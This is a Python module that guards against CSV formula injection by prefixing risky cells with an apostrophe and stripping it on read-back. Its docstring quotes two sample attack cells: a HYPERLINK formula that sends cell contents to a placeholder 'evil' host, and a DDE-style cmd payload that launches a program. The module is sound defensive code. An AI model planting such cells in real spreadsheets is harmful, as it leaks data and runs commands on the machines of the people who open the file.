"""CSV cells that a spreadsheet would run as a formula are neutralised in every CSV we write.

Policy text, analysts' comments, company names and service ids are untrusted: a cell such as
``=HYPERLINK("http://evil/?"&A1, "Apple")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` runs when the file is
opened in Excel, LibreOffice or Google Sheets (CSV/formula injection, OWASP).

The rule, for every cell of every CSV the project writes (``element-scores.csv``, ``scores.csv``,
``score --format csv``, the published ``data/*.csv``), RDR's own columns included:

- a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
  apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as text and never evaluate;
- except a plain number (``-5``, ``+0.25``, ``-1e3``): numbers stay numbers;
- readers of our CSVs (``score``, ``--prior``) remove that apostrophe again, so a file we wrote
  reads back to the same values;
- control characters, bidirectional overrides and zero-width characters are shown as
  ``[U+XXXX]`` (``formats.visible``): a cell never reads as something it is not.
"""

from __future__ import annotations

import re

from .visible import reveal

__all__ = ["TRIGGERS", "neutralise", "neutralise_row", "restore", "restore_row"]

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value):
    """The cell as written: hidden characters shown, text that would run as a formula gets a leading
    apostrophe."""
    value = reveal(value)
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore(value):
    """The cell as it was before :func:`neutralise` (for reading our own CSVs back)."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(TRIGGERS) and not _NUMBER.fullmatch(value[1:]):
        return value[1:]
    return value


def neutralise_row(row):
    """A row (a dict or a sequence of cells) with every cell neutralised."""
    if isinstance(row, dict):
        return {k: neutralise(v) for k, v in row.items()}
    return [neutralise(v) for v in row]


def restore_row(row: dict) -> dict:
    return {k: restore(v) for k, v in row.items()}
